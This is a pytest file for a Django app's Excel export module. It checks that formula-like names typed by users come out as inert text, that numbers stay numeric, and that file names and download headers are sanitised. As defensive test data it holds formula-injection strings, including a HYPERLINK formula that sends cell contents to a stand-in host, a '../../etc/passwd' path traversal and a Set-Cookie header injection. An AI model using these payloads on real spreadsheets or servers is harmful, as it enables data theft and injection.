"""Exports are safe to open: user text that looks like a formula comes out as inert text, numbers stay numbers, and
file names are safe. Checked on real exports (names typed by users: cadres, units, teams, indicators), opened with
openpyxl, and in the files' XML itself (no formula element anywhere)."""

import datetime
import re
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from exports import xlsx
from exports.builders import BUILDERS
from exports.choices import ExportKind
from exports.params import export_request_resolve
from reports.completeness import completeness_rebuild
from reports.models import ReportValue
from reports.rollup import rebuild_batch
from tests.factories import (
    AssignmentFactory,
    CadreFactory,
    DispatchingUnitFactory,
    IndicatorFactory,
    MonthlyReportFactory,
    WorkTeamFactory,
)

pytestmark = pytest.mark.django_db

INJECTIONS = ["=1+1", "@SUM(A1)", "-2+3", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+86-1", "\t=1+1", "\r=2"]


def as_read(text: str) -> str:
    """The text as read back: with lxml installed openpyxl escapes a carriage return (&#13;) and it survives;
    without lxml, XML parsing turns it into a line feed (Excel does the same)."""
    from openpyxl.xml import LXML

    return text if LXML else text.replace("\r", "\n")


@pytest.fixture(autouse=True)
def _january_2026(time_machine):
    time_machine.move_to(datetime.datetime(2026, 1, 10, 10, 0, tzinfo=datetime.UTC), tick=False)


def build(user, kind: str, **data) -> bytes:
    request = export_request_resolve(user=user, kind=kind, data=data)
    buffer = BytesIO()
    BUILDERS[kind](user=user, params=request.params, path=buffer, title=request.title)
    return buffer.getvalue()


def no_formula_anywhere(content: bytes) -> None:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def cells_with(content: bytes, texts: list[str]) -> dict[str, object]:
    """The cells whose value is one of `texts`, by text (the first one found)."""
    workbook = load_workbook(BytesIO(content))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in texts and cell.value not in found:
                    found[cell.value] = cell
    return found


def assert_inert(cell, text: str) -> None:
    assert cell.value == text  # the original text, visible as typed
    assert cell.data_type == "s"  # a string: never evaluated
    assert cell.quotePrefix is True  # and stays text when someone edits it


@pytest.fixture
def hostile_team(batch, doilungdeqen):
    """A team of 堆龙德庆区 whose unit, cadres and posts were typed as formulas."""
    unit = DispatchingUnitFactory(name='=HYPERLINK("http://evil.example","单位")')
    team = WorkTeamFactory(batch=batch, within="540103", unit=unit, name="@SUM(A1)工作队")
    for serial, text in enumerate(INJECTIONS):
        cadre = CadreFactory(
            name=text[:50], home_unit=unit, post=text, rank="-2+3", serial=900 + serial, id_area="540103"
        )
        AssignmentFactory(team=team, cadre=cadre, role="leader" if serial == 0 else "member")
    return team


def test_it_writes_formula_like_names_as_inert_text_in_the_roster(hostile_team, county_admin):
    content = build(county_admin, ExportKind.ROSTER, area="540103")
    texts = [as_read(text[:50]) for text in INJECTIONS] + [hostile_team.unit.name, hostile_team.name]
    found = cells_with(content, texts)

    for text in texts:
        assert text in found, text
        assert_inert(found[text], text)
    no_formula_anywhere(content)


def test_it_writes_formula_like_text_as_inert_in_the_team_detail_and_keeps_numbers_numbers(hostile_team, auditor):
    indicator = IndicatorFactory(code="P02")
    report = MonthlyReportFactory(team=hostile_team, month=datetime.date(2025, 11, 1), approved=True)
    ReportValue.objects.create(report=report, indicator=indicator, value=Decimal("12"))

    content = build(auditor, ExportKind.TEAM_DETAIL, area="540103", period_kind="half", period="2025-12")
    found = cells_with(content, [hostile_team.unit.name, INJECTIONS[0]])
    workbook = load_workbook(BytesIO(content))
    sheet = workbook["期间合计"]
    headers = [cell.value for cell in sheet[5]]
    row = next(
        row for row in sheet.iter_rows(min_row=6) if row[headers.index("派驻单位")].value == hostile_team.unit.name
    )

    assert_inert(found[hostile_team.unit.name], hostile_team.unit.name)
    assert_inert(found[INJECTIONS[0]], INJECTIONS[0])  # the leader's name
    p02 = row[headers.index("组织召开宣讲大会（场次）")]
    assert (p02.value, p02.data_type) == (12, "n")
    no_formula_anywhere(content)


def test_it_writes_formula_like_indicator_and_team_names_as_inert_in_summary_and_completeness(
    hostile_team, auditor, batch
):
    indicator = IndicatorFactory(code="X01", name="=1+1", unit="次")
    report = MonthlyReportFactory(team=hostile_team, month=datetime.date(2025, 12, 1), approved=True)
    ReportValue.objects.create(report=report, indicator=indicator, value=Decimal("3"))
    rebuild_batch(batch)
    completeness_rebuild()

    summary = build(auditor, ExportKind.SUMMARY, area="540103", period_kind="half", period="2025-12")
    completeness = build(auditor, ExportKind.COMPLETENESS, area="540103", month="2025-11")

    assert_inert(cells_with(summary, ["=1+1"])["=1+1"], "=1+1")
    assert_inert(cells_with(completeness, [hostile_team.name])[hostile_team.name], hostile_team.name)
    no_formula_anywhere(summary)
    no_formula_anywhere(completeness)


def test_it_leaves_plain_text_and_numbers_alone():
    workbook = Workbook()
    sheet = workbook.active

    plain = xlsx.put(sheet, 1, 1, "南嘎居委会")
    number = xlsx.put(sheet, 1, 2, Decimal("1234.50"), number_format=xlsx.MONEY_FORMAT)
    negative_text = xlsx.put(sheet, 1, 3, "-2+3")
    control = xlsx.put(sheet, 1, 4, "a\x00b\x07c")

    assert (plain.value, plain.data_type, plain.quotePrefix) == ("南嘎居委会", "s", False)
    assert (number.value, number.data_type, number.number_format) == (Decimal("1234.50"), "n", "#,##0.00")
    assert_inert(negative_text, "-2+3")
    assert control.value == "abc"  # characters XML cannot hold are dropped, not a failed export


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("堆龙德庆区_2025年下半年_统计汇总表.xlsx", "堆龙德庆区_2025年下半年_统计汇总表.xlsx"),
        ("../../etc/passwd", "etc_passwd"),
        ('a"b\r\nc;.xlsx', "a_b_c;.xlsx"),
        ("..", "export"),
    ],
)
def test_it_makes_file_names_safe(name, expected):
    assert xlsx.safe_file_name(name) == expected


def test_it_names_the_download_in_ascii_and_in_chinese():
    header = xlsx.content_disposition("堆龙德庆区_花名册.xlsx", "zhucun-roster-540103.xlsx")

    assert header == (
        "attachment; filename=\"zhucun-roster-540103.xlsx\"; filename*=UTF-8''"
        "%E5%A0%86%E9%BE%99%E5%BE%B7%E5%BA%86%E5%8C%BA_%E8%8A%B1%E5%90%8D%E5%86%8C.xlsx"
    )
    assert xlsx.content_disposition("x.xlsx", 'evil"\r\nSet-Cookie: a=b.xlsx').isascii()
    assert "\r" not in xlsx.content_disposition("x\r\n.xlsx", "x\r\n.xlsx")
